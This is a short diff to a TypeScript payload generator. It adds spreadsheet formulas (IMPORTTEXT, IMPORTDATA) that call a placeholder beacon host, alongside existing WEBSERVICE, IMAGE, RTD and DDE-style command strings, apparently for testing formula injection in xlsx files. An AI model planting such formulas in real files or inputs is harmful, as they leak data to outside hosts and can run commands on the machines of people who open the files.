@@ -142,6 +142,8 @@ export const deepXlsx = (who: string): Kind[] => [
   ],
   ...[
     (who: string) => `WEBSERVICE("https://beacon.example/${who}")`,
+    (who: string) => `IMPORTTEXT("https://beacon.example/${who}.csv")`,
+    (who: string) => `IMPORTDATA("https://beacon.example/${who}")`,
     (who: string) => `_xlfn.IMAGE("https://beacon.example/${who}.png")`,
     (who: string) => `RTD("prog","",${JSON.stringify(who)})`,
     (who: string) => `${who}|'/c x'!A1`,
